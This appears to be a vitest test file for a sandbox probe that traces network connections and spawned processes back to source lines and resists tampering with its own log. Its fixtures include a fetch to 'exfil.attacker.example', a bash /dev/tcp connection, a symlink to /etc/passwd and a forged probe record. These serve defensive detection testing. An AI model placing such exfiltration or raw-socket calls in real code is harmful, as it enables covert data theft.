import { describe, expect, test } from "vitest";

import { describeBehaviour } from "../../server/core/observe/behaviours.ts";
import { engine, runInBox, seen } from "./box.ts";

describe.skipIf(!engine)("the language probe in a box", () => {
  test("adds the line of the program to what the kernel saw", async () => {
    const record = await runInBox(
      {
        "src/export.mjs": [
          'import { connect } from "node:net";',
          'import { spawnSync } from "node:child_process";',
          "export function send() {",
          '  connect(8443, "198.51.100.7").on("error", () => {});',
          '  spawnSync("uname", ["-r"]);',
          '  fetch("https://exfil.attacker.example/").catch(() => {});',
          "}",
        ].join("\n"),
        "a.test.mjs":
          'import { test } from "node:test";\nimport { send } from "./src/export.mjs";\ntest("sends", () => send());\n',
      },
      ["node", "--test"],
    );
    expect(record.end).toEqual({ reason: "exited", code: 0 });
    const at = (line: number) => expect.objectContaining({ path: "src/export.mjs", line });
    const [connect] = seen(record, "connect");
    expect(connect).toMatchObject({ address: "198.51.100.7", stack: [at(4), expect.anything()] });
    expect(connect?.stack?.[1]).toMatchObject({ path: "a.test.mjs", line: 3 });
    const names = seen(record, "lookup").filter(({ name }) => name === "exfil.attacker.example");
    expect(names.map(({ stack }) => stack?.[0])).toEqual(names.map(() => at(6)));
    expect(names).not.toEqual([]);
    const uname = seen(record, "process").find(({ argv }) => argv[0] === "uname");
    expect(uname?.stack?.[0]).toEqual(at(5));
  });

  test("leads through a package to who called it", async () => {
    const record = await runInBox(
      {
        "node_modules/phone/index.js":
          'exports.home = () => require("node:http").get("http://198.51.100.9/").on("error", () => {});',
        "a.cjs": '\n\nrequire("phone").home();',
      },
      ["node", "a.cjs"],
    );
    expect(seen(record, "connect")[0]?.stack?.map(({ path, line }) => `${path}:${line}`)).toEqual([
      "node_modules/phone/index.js:1",
      "a.cjs:3",
    ]);
  });

  test("cannot be changed, read or filled by the program, and a flood of it stays bounded", async () => {
    const record = await runInBox({}, [
      "sh",
      "-c",
      `cd /run/shipgate; ls -l | awk '{print $1, $3}' | tail -n 2
         echo x > node-probe.cjs; rm probe.jsonl; touch other; ln -s /etc/passwd link; cat probe.jsonl
         head -c 9000000 /dev/zero | tr '\\0' a >> probe.jsonl; node -e 'console.log("went on")'`,
    ]);
    expect(record.outputTail.split("\n").slice(0, 2)).toEqual([
      "-r--r--r-- root",
      "-rw--w--w- root",
    ]);
    expect(record.outputTail.match(/Permission denied|Read-only/g)?.length).toBe(5);
    expect(record.outputTail).toContain("No space left on device");
    expect(record.outputTail).toMatch(/went on\n$/);
    expect(record.end).toEqual({ reason: "exited", code: 0 });
  });

  test("believes no report of what the kernel did not see", async () => {
    const forged = JSON.stringify({
      kind: "connect",
      target: "203.0.113.5:443",
      stack: [{ file: "/workspace/innocent.js", line: 1, column: 1 }],
    });
    const record = await runInBox({}, [
      "sh",
      "-c",
      `echo '${forged}' >> /run/shipgate/probe.jsonl; echo '{{{' >> /run/shipgate/probe.jsonl`,
    ]);
    expect(record.end).toEqual({ reason: "exited", code: 0 });
    expect(seen(record, "connect")).toEqual([]);
  });
});

describe.skipIf(!engine)("what goes past the probe", () => {
  const hidden = (record: Awaited<ReturnType<typeof runInBox>>): string[] =>
    record.behaviours.filter((one) => "unseenByProbe" in one).map(describeBehaviour);

  test("is marked: connections and programs through Node's inner parts, in threads too", async () => {
    const inner = `const { TCP, TCPConnectWrap, constants } = process.binding("tcp_wrap");
      new TCP(constants.SOCKET).connect(new TCPConnectWrap(), PLACE, 4444);`;
    const record = await runInBox(
      {
        "thread.cjs": inner.replace("PLACE", "'198.51.100.67'"),
        "a.cjs": `${inner.replace("PLACE", "'198.51.100.66'")}
          const stdio = [{ type: "pipe", readable: true }];
          process.binding("spawn_sync").spawn({ file: "uname", args: ["uname", "-s"], stdio });
          require("node:worker_threads"); new (require("node:worker_threads").Worker)(__dirname + "/thread.cjs");
          require("node:net").connect(4444, "198.51.100.68").on("error", () => {});`,
      },
      ["node", "--no-deprecation", "a.cjs"],
    );
    expect(record.end).toEqual({ reason: "exited", code: 0 });
    expect(hidden(record)).toEqual([
      "198.51.100.66:4444/tcp",
      "198.51.100.67:4444/tcp",
      "uname -s",
    ]);
  });

  test("is nothing of what ordinary programs do", async () => {
    const record = await runInBox(
      {
        "package.json": JSON.stringify({ scripts: { test: "node --test && node b.cjs" } }),
        "b.cjs": `const cp = require("node:child_process"), net = require("node:net"), dgram = require("node:dgram");
          cp.execFileSync("bash", ["-c", "exec 3<>/dev/tcp/198.51.100.1/80; uname -a; exec true"], { stdio: "ignore", shell: false, timeout: 9000 , killSignal: 9, windowsHide: true, encoding: "utf8", env: { PATH: process.env.PATH } , maxBuffer: 9999, cwd: "/tmp", uid: undefined, argv0: "renamed" });`,
        "c.test.mjs": `import { test } from "node:test"; import net from "node:net"; import dns from "node:dns/promises"; import dgram from "node:dgram"; import cp from "node:child_process"; import { Worker } from "node:worker_threads"; import cluster from "node:cluster"; import tls from "node:tls"; import http2 from "node:http2";
          const quiet = () => {};
          test("all", async () => {
            net.connect({ host: "own.name.example", port: 81, lookup: (name, options, done) => done(null, [{ address: "198.51.100.2", family: 4 }, { address: "2001:db8::2", family: 6 }]) }).on("error", quiet);
            tls.connect(443, "198.51.100.3").on("error", quiet); http2.connect("https://198.51.100.4").on("error", quiet);
            await fetch("http://198.51.100.5:8080/").catch(quiet);
            const r = new dns.Resolver(); r.setServers(["8.8.8.8"]); await r.resolve4("a.example").catch(quiet);
            await new Promise((done) => { const s = dgram.createSocket("udp4"); s.send("x", 5000, "198.51.100.6", () => s.close(done)); });
            await new Promise((done) => { const s = dgram.createSocket("udp4"); s.connect(5001, "198.51.100.7", () => s.send("x", () => s.close(done))); });
            for (const run of [() => cp.spawn("uname", ["-m"]), () => cp.fork("./d.mjs"), () => cp.exec("uname -n; id"), () => cp.spawn("uname -p", { shell: true }), () => cp.spawn(process.execPath, ["d.mjs"], { env: {} , argv0: "other" })])
              await new Promise((done) => run().on("close", done));
            new Worker("require('net').connect(82, '198.51.100.8').on('error', () => {})", { eval: true });
          });`,
        "d.mjs": `import net from "node:net"; net.connect(83, "198.51.100.9").on("error", () => {});`,
      },
      ["npm", "test"],
    );
    expect(seen(record, "connect").length).toBeGreaterThanOrEqual(10);
    expect(seen(record, "process").map(({ argv }) => argv.join(" "))).toContain("uname -a");
    expect(hidden(record)).toEqual([]);
  });
});
